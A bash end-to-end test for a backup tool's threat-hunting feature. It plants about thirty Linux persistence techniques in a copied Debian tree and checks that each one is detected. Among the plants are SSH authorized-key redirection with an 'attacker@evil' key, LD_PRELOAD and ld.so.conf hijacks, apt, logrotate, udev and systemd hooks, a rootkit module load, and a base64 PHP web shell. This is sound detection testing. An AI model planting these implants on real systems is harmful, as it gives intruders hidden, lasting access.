#!/bin/bash
# End-to-end: the persistence places of docs/hunt.md ("Persistence places") on a
# real Debian tree, one technique a day. A copy of the cached debootstrap tree
# (tests/debian-tree.sh) is backed up once a day (--time 2026-04-DD):
#   day 1  the baseline (an account alice made with the tree's useradd);
#   day 2  ordinary life with the tree's own tools: useradd -m bob (a .bashrc
#          copied from /etc/skel), chpasswd for bob, a language setting in
#          /etc/environment;
#   day 3+ one technique each (the TECH table below), with the tree's own
#          tools where there is one (usermod, chpasswd), by hand otherwise;
#          several edit a package's own file (bash.bashrc, logrotate.d/apt,
#          update-motd.d/10-uname, apt-daily-upgrade.service, cron.daily/dpkg).
# Asserted: days 1 and 2 hold no finding at or above high; each technique is
# found at high or critical on the path it used, first seen on its day, with
# the item that fired when the place is judged by item; the clean point is
# day 2.
. "$(dirname "$0")/e2e-lib.bash"
. "$CR_SRC/tests/debian-tree.sh"
. "$E2E_DIR/hunt-lib.bash"

e2e_require_root
for t in python3 chroot; do
    command -v "$t" >/dev/null || e2e_skip "$t is not installed"
done
DEB=$(cr_debian_tree) || e2e_skip "no debootstrap tree (see messages above)"

S="$SCRATCH/server"
e2e_log "copying $DEB to the server folder"
cp -a "$DEB" "$S"
rm -f "$S/.cleanroom-complete"
printf '#!/bin/sh\nexit 101\n' >"$S/usr/sbin/policy-rc.d"
chmod 0755 "$S/usr/sbin/policy-rc.d"
chroot "$S" useradd -m -u 1000 -s /bin/bash alice || e2e_fail "useradd alice in the tree failed"
mkdir -p "$S/var/www/html"
printf '<html><body>intranet</body></html>\n' >"$S/var/www/html/index.html"

e2e_init_vault
declare -a SNAP
backup_day() {
    local d=$1
    e2e_run --json backup --source srv --threads 2 --time "$(printf '2026-04-%02dT02:00:00Z' "$d")" "$S"
    e2e_expect_rc 0 "backup of day $d"
    SNAP[d]=$(hunt_json "$OUT" 'j["id"]')
}

backup_day 1
# Day 2: ordinary life.
chroot "$S" useradd -m -u 1001 -s /bin/bash bob || e2e_fail "useradd bob failed"
echo 'bob:Bob-password-2026' | chroot "$S" chpasswd || e2e_fail "chpasswd bob failed"
echo 'LANG="fr_FR.UTF-8"' >>"$S/etc/environment"
backup_day 2

# Day 3 on: one technique a day. Each line: path|indicator|evidence ("-": none).
TECH="$SCRATCH/tech.txt"
: >"$TECH"
day=3
plant() { # plant PATH INDICATOR EVIDENCE: the technique of this day is done; back up
    printf '%d|%s|%s|%s\n' "$day" "$1" "$2" "$3" >>"$TECH"
    backup_day "$day"
    day=$((day + 1))
}
mkdir -p "$S/etc/profile.d"
echo '/usr/local/bin/sysinfo --daemon &' >"$S/etc/profile.d/sysinfo.sh"
plant /etc/profile.d/sysinfo.sh persistence:shell-startup '/usr/local/bin/sysinfo --daemon &'
echo "alias sudo='sudo /var/tmp/.s'" >>"$S/etc/bash.bashrc"
plant /etc/bash.bashrc persistence:shell-startup "alias sudo='sudo /var/tmp/.s'"
echo '( /usr/local/bin/.helper & ) 2>/dev/null' >>"$S/root/.bashrc"
plant /root/.bashrc persistence:shell-startup '( /usr/local/bin/.helper & ) 2>/dev/null'
mkdir -p "$S/root/.ssh"
echo 'nohup /var/tmp/.x >/dev/null 2>&1 &' >"$S/root/.ssh/rc"
plant /root/.ssh/rc persistence:ssh-rc 'nohup /var/tmp/.x >/dev/null 2>&1 &'
mkdir -p "$S/etc/ssh"
printf 'Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%%u\n' >"$S/etc/ssh/sshd_config"
plant /etc/ssh/sshd_config persistence:sshd-config 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u'
mkdir -p "$S/etc/ssh/keys"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBoxop+epfn54bN0x4jzdNfPf8kmiQWlG2z5+MNfPT4T attacker@evil' >"$S/etc/ssh/keys/root"
plant /etc/ssh/keys/root persistence:ssh-key 'ssh-ed25519 SHA256:ljy8R3oQo2IwHA2Wa8SWSJy2Ow8+1VWuBNcG+xpaZkQ attacker@evil'
mkdir -p "$S/etc/ssh/sshd_config.d"
printf 'Match User deploy\n    AuthorizedKeysFile /var/lib/.k/%%u\n' >"$S/etc/ssh/sshd_config.d/50-cloud.conf"
plant /etc/ssh/sshd_config.d/50-cloud.conf persistence:sshd-config 'AuthorizedKeysFile /var/lib/.k/%u'
mkdir -p "$S/var/lib/.k"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBoxop+epfn54bN0x4jzdNfPf8kmiQWlG2z5+MNfPT4T attacker@evil' >"$S/var/lib/.k/deploy"
plant /var/lib/.k/deploy persistence:ssh-key 'ssh-ed25519 SHA256:ljy8R3oQo2IwHA2Wa8SWSJy2Ow8+1VWuBNcG+xpaZkQ attacker@evil'
echo 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libaudit2.so' >>"$S/etc/environment"
plant /etc/environment persistence:environment 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libaudit2.so'
echo '/var/tmp/.lib' >"$S/etc/ld.so.conf.d/zz-local.conf"
plant /etc/ld.so.conf.d/zz-local.conf persistence:ld-so-conf '/var/tmp/.lib'
mkdir -p "$S/etc/udev/rules.d"
echo 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/usbmon"' >"$S/etc/udev/rules.d/99-usb.rules"
plant /etc/udev/rules.d/99-usb.rules persistence:udev 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/usbmon"'
echo 'DPkg::Post-Invoke {"/var/tmp/.p";};' >"$S/etc/apt/apt.conf.d/99cleanup"
plant /etc/apt/apt.conf.d/99cleanup persistence:apt-hook 'DPkg::Post-Invoke: /var/tmp/.p'
python3 - "$S/etc/logrotate.d/apt" <<'EOF' || e2e_fail "editing logrotate.d/apt"
import sys
p = sys.argv[1]
t = open(p).read()
i = t.index("}")
open(p, "w").write(t[:i] + "\tpostrotate\n\t\t/var/tmp/.r\n\tendscript\n" + t[i:])
EOF
plant /etc/logrotate.d/apt persistence:logrotate 'postrotate: /var/tmp/.r'
mkdir -p "$S/etc/NetworkManager/dispatcher.d"
printf '#!/bin/sh\n/var/tmp/.n &\n' >"$S/etc/NetworkManager/dispatcher.d/01-up"
chmod 0755 "$S/etc/NetworkManager/dispatcher.d/01-up"
plant /etc/NetworkManager/dispatcher.d/01-up persistence:network-hook -
mkdir -p "$S/etc/modules-load.d"
echo 'diamorphine' >"$S/etc/modules-load.d/diamorphine.conf"
plant /etc/modules-load.d/diamorphine.conf persistence:kernel-module diamorphine
mkdir -p "$S/etc/init"
printf 'start on runlevel [2345]\nexec /var/tmp/.e\n' >"$S/etc/init/evil.conf"
plant /etc/init/evil.conf persistence:upstart -
mkdir -p "$S/var/spool/cron/atjobs"
printf '#!/bin/sh\n/var/tmp/.a\n' >"$S/var/spool/cron/atjobs/a0000101a2b3c4"
plant /var/spool/cron/atjobs/a0000101a2b3c4 persistence:at -
mkdir -p "$S/home/alice/.local/share/systemd/user"
printf '[Service]\nExecStart=/home/alice/.cache/sync\n' >"$S/home/alice/.local/share/systemd/user/sync.service"
plant /home/alice/.local/share/systemd/user/sync.service persistence:systemd -
mkdir -p "$S/etc/systemd/system/cron.service.d"
printf '[Service]\nExecStartPost=/var/tmp/.o\n' >"$S/etc/systemd/system/cron.service.d/override.conf"
plant /etc/systemd/system/cron.service.d/override.conf persistence:systemd -
chroot "$S" usermod -aG sudo alice || e2e_fail "usermod -aG sudo alice failed"
plant /etc/group persistence:privileged-group 'sudo: alice'
chroot "$S" usermod -s /bin/bash daemon || e2e_fail "usermod -s /bin/bash daemon failed"
plant /etc/passwd persistence:system-account-shell 'daemon (user id 1): /bin/bash'
echo 'root:Attacker-chose-this-1' | chroot "$S" chpasswd || e2e_fail "chpasswd root failed"
plant /etc/shadow persistence:password -
mkdir -p "$S/usr/lib/python3/dist-packages"
echo "import os; os.system('/var/tmp/.py &')" >"$S/usr/lib/python3/dist-packages/aaa.pth"
plant /usr/lib/python3/dist-packages/aaa.pth persistence:python-startup "import os; os.system('/var/tmp/.py &')"
mkdir -p "$S/var/www/html/uploads"
echo 'AddType application/x-httpd-php .jpg' >"$S/var/www/html/uploads/.htaccess"
plant /var/www/html/uploads/.htaccess persistence:webroot-config 'AddType application/x-httpd-php .jpg'
mkdir -p "$S/var/www/html/inc"
echo "<?php @eval(base64_decode('c3lzdGVtKCRfR0VUWyJjIl0pOw==')); ?>" >"$S/var/www/html/inc/config.inc"
plant /var/www/html/inc/config.inc persistence:webroot-script -
mkdir -p "$S/etc/xdg/autostart"
printf '[Desktop Entry]\nType=Application\nExec=/var/tmp/.d\n' >"$S/etc/xdg/autostart/update.desktop"
plant /etc/xdg/autostart/update.desktop persistence:autostart -
echo '/var/tmp/.m &' >>"$S/etc/update-motd.d/10-uname"
plant /etc/update-motd.d/10-uname persistence:motd -
sed -i 's#^ExecStart=#ExecStartPre=/var/lib/.cache/dbus-helper\nExecStart=#' "$S/lib/systemd/system/apt-daily-upgrade.service"
grep -q '^ExecStartPre=/var/lib/.cache/dbus-helper' "$S/lib/systemd/system/apt-daily-upgrade.service" ||
    e2e_fail "could not edit apt-daily-upgrade.service"
UNIT=/lib/systemd/system/apt-daily-upgrade.service
[ -L "$S/lib" ] && UNIT=/usr$UNIT # usrmerge: the file is under /usr
plant "$UNIT" persistence:systemd -
echo '/var/tmp/.c' >>"$S/etc/cron.daily/dpkg"
plant /etc/cron.daily/dpkg persistence:cron -
LAST=$((day - 1))

e2e_run --json hunt --source srv
e2e_expect_rc 0 "hunt"
hunt_findings "$SCRATCH/findings.json" --source srv
printf '%s\n' "${SNAP[@]}" >"$SCRATCH/snaps.txt"

# Days 1-2: nothing at or above high; each technique on its day.
hunt_py "$SCRATCH/findings.json" <<EOF || e2e_fail_later "the techniques were not each found at high or more on their day (above)"
snaps = open("$SCRATCH/snaps.txt").read().split()
S = "$S"
F = items(j[0])
bad = 0
for f in F:
    if sev(f) >= 3 and (same_snap(f, snaps[0]) or same_snap(f, snaps[1])):
        print("  false positive on an ordinary day:", show(f)); bad = 1
for line in open("$TECH"):
    d, path, ind, ev = line.rstrip("\n").split("|", 3)
    d = int(d)
    hits = [f for f in F if same_snap(f, snaps[d - 1]) and f.get("path") == S + path
            and f.get("indicator") == ind and (ev == "-" or f.get("evidence") == ev)]
    if not hits:
        near = [show(f) for f in F if same_snap(f, snaps[d - 1]) and f.get("path") == S + path]
        print("  day %d: no %s finding on %s%s; on that path: %s" % (d, ind, path,
              "" if ev == "-" else " [" + ev + "]", near or "nothing")); bad = 1
        continue
    f = hits[0]
    if sev(f) < 3:
        print("  day %d: found below high:" % d, show(f)); bad = 1
    fs = f.get("first_seen") or f.get("first_seen_snapshot") or ""
    if fs and not same_snap(fs, snaps[d - 1]):
        print("  day %d: first seen elsewhere:" % d, show(f), fs); bad = 1
sys.exit(bad)
EOF

# The clean point is day 2.
e2e_run --json clean-point --source srv
e2e_expect_rc 0 "clean-point"
hunt_py "$OUT" <<EOF || e2e_fail_later "the clean point is not day 2"
cp = j[0]
cp = cp[0] if isinstance(cp, list) else cp.get("clean_points", [cp])[0] if "clean_points" in cp else cp
snap = cp.get("clean_snapshot") or cp.get("clean") or ""
snap = snap.get("id", "") if isinstance(snap, dict) else snap
if not same_snap(snap, "${SNAP[2]}"):
    print("  clean point:", cp); sys.exit(1)
EOF
e2e_log "$((LAST - 2)) techniques planted on days 3..$LAST"
e2e_pass
